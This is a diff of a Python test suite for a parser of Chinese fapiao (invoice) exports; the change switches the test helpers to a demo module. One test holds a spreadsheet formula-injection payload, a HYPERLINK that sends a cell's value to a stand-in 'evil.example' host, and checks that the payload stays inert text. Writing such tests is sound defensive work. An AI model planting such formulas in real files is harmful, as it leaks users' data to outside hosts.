@@ -8,6 +8,7 @@ from decimal import Decimal
 from openpyxl import Workbook, load_workbook
 from openpyxl.utils.exceptions import IllegalCharacterError
 
+from ..demo import bureau_export_file as bf
 from ..tools import bureau_export as be
 from ..tools import fapiao_amount, fapiao_number
 from ..tools import spreadsheet as sp
@@ -113,7 +114,7 @@ class TestBureauExport(ToolsCase):
     # --- a real-shaped file ---------------------------------------------------------------------------
 
     def test_xlsx_with_title_rows_and_footer(self):
-        data = be.write_export_xlsx([row(), row(digital_number="26442000000000000002")])
+        data = bf.write_export_xlsx([row(), row(digital_number="26442000000000000002")])
         rows = parse_ok(data)
         assert [r.row for r in rows] == [4, 5]  # two title rows, header on row 3
         first = rows[0]
@@ -138,7 +139,7 @@ class TestBureauExport(ToolsCase):
         assert rows[0].amount_total == Decimal("113.00")
 
     def test_excel_numeric_ids_are_repaired_or_flagged(self):
-        data = be.write_export_xlsx(
+        data = bf.write_export_xlsx(
             [
                 row(digital_number="", code=32001900104, number=1234567.0, kind="vat_general"),
                 row(digital_number=26442000000000000003),  # Excel's float: last digits lost
@@ -154,7 +155,7 @@ class TestBureauExport(ToolsCase):
         assert rounded.key == ("~", rounded.rounded_number)
 
     def test_rounded_number_text_in_csv(self):
-        rows = parse_ok(be.write_export_csv([row(digital_number="2.6442E+19")]))
+        rows = parse_ok(bf.write_export_csv([row(digital_number="2.6442E+19")]))
         assert rows[0].rounded_number == "26442000000000000000"
 
     @parametrize(
@@ -191,7 +192,7 @@ class TestBureauExport(ToolsCase):
             be.parse_rate(value)
 
     def test_rates_from_the_detail_sheet(self):
-        data = be.write_export_xlsx(
+        data = bf.write_export_xlsx(
             [row(), row(digital_number="26442000000000000002")],
             details=[
                 {"digital_number": "26442000000000000001", "tax_rate": "13%"},
@@ -208,7 +209,7 @@ class TestBureauExport(ToolsCase):
         """Lines summed per rate when they add up to the fapiao; else the fapiao is not split."""
         number_one, number_two = "26442000000000000001", "26442000000000000002"
         fapiao = {"amount_untaxed": "150.00", "amount_tax": "16.00", "amount_total": "166.00"}
-        data = be.write_export_xlsx(
+        data = bf.write_export_xlsx(
             [row(**fapiao), row(digital_number=number_two, **fapiao)],
             details=[
                 {"digital_number": number_one, "tax_rate": "13%", "amount_untaxed": 60,
@@ -232,13 +233,13 @@ class TestBureauExport(ToolsCase):
 
     @parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
     def test_csv_encodings(self, encoding):
-        data = be.write_export_csv([row(), row(digital_number="26442000000000000002")], encoding)
+        data = bf.write_export_csv([row(), row(digital_number="26442000000000000002")], encoding)
         rows = parse_ok(data)
         assert [r.digital_number for r in rows] == ["26442000000000000001", "26442000000000000002"]
         assert rows[0].buyer_name == "北京买方(中国)有限公司"
 
     def test_csv_tab_separated(self):
-        text = be.write_export_csv([row()], "utf-8").decode().replace(",", "\t")
+        text = bf.write_export_csv([row()], "utf-8").decode().replace(",", "\t")
         assert parse_ok(text.encode())[0].seller_vat == SELLER
 
     def test_red_and_void_rows(self):
@@ -246,7 +247,7 @@ class TestBureauExport(ToolsCase):
         void = row(digital_number="", code="3200191130", number="00000002", kind="vat_special",
                    status="void")  # fmt: skip
         full = row(digital_number="26442000000000000009", status="已红冲-全额")
-        red_row, void_row, full_row = parse_ok(be.write_export_xlsx([red, void, full]))
+        red_row, void_row, full_row = parse_ok(bf.write_export_xlsx([red, void, full]))
         assert red_row.is_red and red_row.amount_total == Decimal("-113.00")
         assert void_row.status == "void" and void_row.key == ("3200191130", "00000002")
         assert full_row.status == "red_full"
@@ -257,12 +258,12 @@ class TestBureauExport(ToolsCase):
             "seller_vat": SELLER, "seller_name": "福州测试科技有限公司", "buyer_vat": None,
             "buyer_name": "张三", "issue_date": date(2026, 10, 15),
         }  # fmt: skip
-        digital = be.row_from_fapiao(
+        digital = bf.row_from_fapiao(
             kind="digital_special", code=False, number="26442000000000000001",
             amount_untaxed=100.0, amount_tax=13.0, amount_total=113.0, state="red_partial",
             is_red=False, risk="正常", **common,
         )  # fmt: skip
-        paper = be.row_from_fapiao(
+        paper = bf.row_from_fapiao(
             kind="vat_general", code="032001900104", number="00000002", amount_untaxed=-50.0,
             amount_tax=-6.5, amount_total=-56.5, state="void", is_red=True, **common,
         )  # fmt: skip
@@ -271,7 +272,7 @@ class TestBureauExport(ToolsCase):
         assert (paper["code"], paper["number"], paper["digital_number"]) == (
             "032001900104", "00000002", "",
         )  # fmt: skip
-        first, second = parse_ok(be.write_export_xlsx([digital, paper]))
+        first, second = parse_ok(bf.write_export_xlsx([digital, paper]))
         assert first.key == ("", "26442000000000000001")
         assert (first.kind, first.status, first.is_red) == ("digital_special", "red_partial", False)
         assert first.amount_total == Decimal("113.00") and first.buyer_vat == ""
@@ -286,20 +287,20 @@ class TestBureauExport(ToolsCase):
 
     def test_formula_injection_is_kept_as_inert_text(self):
         formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
-        rows = parse_ok(be.write_export_xlsx([row(buyer_name=formula, seller_name="<b>x</b>")]))
+        rows = parse_ok(bf.write_export_xlsx([row(buyer_name=formula, seller_name="<b>x</b>")]))
         assert rows[0].buyer_name == formula.replace("（", "(")
         assert rows[0].seller_name == "<b>x</b>"
-        rows = parse_ok(be.write_export_csv([row(buyer_name=formula)]))
+        rows = parse_ok(bf.write_export_csv([row(buyer_name=formula)]))
         assert rows[0].buyer_name == formula
 
     def test_formula_in_an_amount_is_a_row_error_not_evaluated(self):
-        errors = errors_of(be.write_export_xlsx([row(amount_total="=100+13")]))
+        errors = errors_of(bf.write_export_xlsx([row(amount_total="=100+13")]))
         assert len(errors) == 1 and "row 4" in errors[0] and "=100+13" in errors[0]
 
     # --- errors -----------------------------------------------------------------------------------
 
     def test_every_unusable_row_is_named_with_sheet_and_row(self):
-        data = be.write_export_xlsx(
+        data = bf.write_export_xlsx(
             [
                 row(),
                 row(digital_number="26442000000000000002", issue_date="someday"),
@@ -318,7 +319,7 @@ class TestBureauExport(ToolsCase):
     def test_readers_agree(self):
         """calamine (when installed) and openpyxl read the same rows and errors from one file,
         also when the table starts in column C below an empty row."""
-        data = be.write_export_xlsx(
+        data = bf.write_export_xlsx(
             [row(), row(digital_number=26442000000000000002, amount_total="x")]
         )
         sheet = load_workbook(io.BytesIO(data), read_only=True)[be.BASIC_SHEET]
@@ -342,8 +343,8 @@ class TestBureauExport(ToolsCase):
 
     def test_workbook_with_formulas_is_read_by_openpyxl(self):
         """calamine would read a formula's cached result: such a workbook goes to openpyxl."""
-        plain = be.write_export_xlsx([row()])
-        formula = be.write_export_xlsx([row(buyer_name='=HYPERLINK("x")')])
+        plain = bf.write_export_xlsx([row()])
+        formula = bf.write_export_xlsx([row(buyer_name='=HYPERLINK("x")')])
         assert sp.xlsx_reader(formula) == "openpyxl"
         assert sp.xlsx_reader(plain) == sp.xlsx_reader()
         assert sp.xlsx_reader(b"PK\x03\x04 damaged") == sp.xlsx_reader()
@@ -365,7 +366,7 @@ class TestBureauExport(ToolsCase):
         self.refused(b"a" * (be.MAX_BYTES + 1), "MB")
 
     def test_the_caller_sets_the_limit(self):
-        data = be.write_export_csv([row()], footer=False)
+        data = bf.write_export_csv([row()], footer=False)
         with self.assertRaises(be.ExportError) as caught:
             be.parse_export(data, "export.csv", max_bytes=len(data) - 1)
         assert "at most 0 MB" in str(caught.exception), str(caught.exception)
@@ -383,7 +384,7 @@ class TestBureauExport(ToolsCase):
         assert "价税合计" in message and "发票状态" in message
 
     def test_header_without_rows(self):
-        self.refused(be.write_export_xlsx([]), "no fapiao rows")
+        self.refused(bf.write_export_xlsx([]), "no fapiao rows")
 
     def test_workbook_without_the_sheet(self):
         book = Workbook()
@@ -412,9 +413,9 @@ class TestBureauExport(ToolsCase):
     def test_fuzz_csv_cells(self, rows, encoding):
         values = [row(**{k: ("" if v is None else v) for k, v in r.items()}) for r in rows]
         try:
-            data = be.write_export_csv(values, encoding)
+            data = bf.write_export_csv(values, encoding)
         except UnicodeEncodeError:
-            data = be.write_export_csv(values, "utf-8")  # text GB18030 cannot hold
+            data = bf.write_export_csv(values, "utf-8")  # text GB18030 cannot hold
         _survives(data)
 
     @FUZZ
@@ -424,7 +425,7 @@ class TestBureauExport(ToolsCase):
     def test_fuzz_xlsx_cells(self, rows):
         values = [row(**r) for r in rows]
         try:
-            data = be.write_export_xlsx(values)
+            data = bf.write_export_xlsx(values)
         except (ValueError, IllegalCharacterError):
             return  # openpyxl refuses to write some control characters: not an input we can get
         _survives(data)
@@ -558,7 +559,7 @@ class TestBureauExportSlices(ToolsCase):
              "item_name": "服务", "amount_untaxed": untaxed, "tax_rate": rate, "amount_tax": tax}
             for n in (1, 12) for untaxed, rate, tax in (("50.00", "13%", "6.50"), ("50.00", "13%", "6.50"))
         ]  # fmt: skip
-        for data in (be.write_export_xlsx(rows, details=details), be.write_export_csv(rows)):
+        for data in (bf.write_export_xlsx(rows, details=details), bf.write_export_csv(rows)):
             whole = be.parse_export(data)
             self.assertTrue(whole.errors)
             count, parsed, errors = self.parse_in_slices(data, 4)
@@ -569,7 +570,7 @@ class TestBureauExportSlices(ToolsCase):
 
     def test_errors_stop_where_one_parse_stops(self):
         rows = [row(digital_number=f"2644200000{n:010d}", issue_date="bad") for n in range(205)]
-        data = be.write_export_csv(rows)
+        data = bf.write_export_csv(rows)
         whole = [str(error) for error in be.parse_export(data).errors]
         self.assertEqual(len(whole), be.MAX_ERRORS + 1)
         self.assertEqual(self.parse_in_slices(data, 50)[2], whole)
@@ -580,7 +581,7 @@ class TestBureauExportSlices(ToolsCase):
         self.assertEqual(sp.cells_from_json(sp.cells_json(cells)), [list(cells[0])])
 
     def test_a_header_without_rows_is_refused_after_the_slices(self):
-        data = be.write_export_csv([])
+        data = bf.write_export_csv([])
         with self.assertRaises(be.ExportError) as whole:
             be.parse_export(data)
         with self.assertRaises(be.ExportError) as sliced:
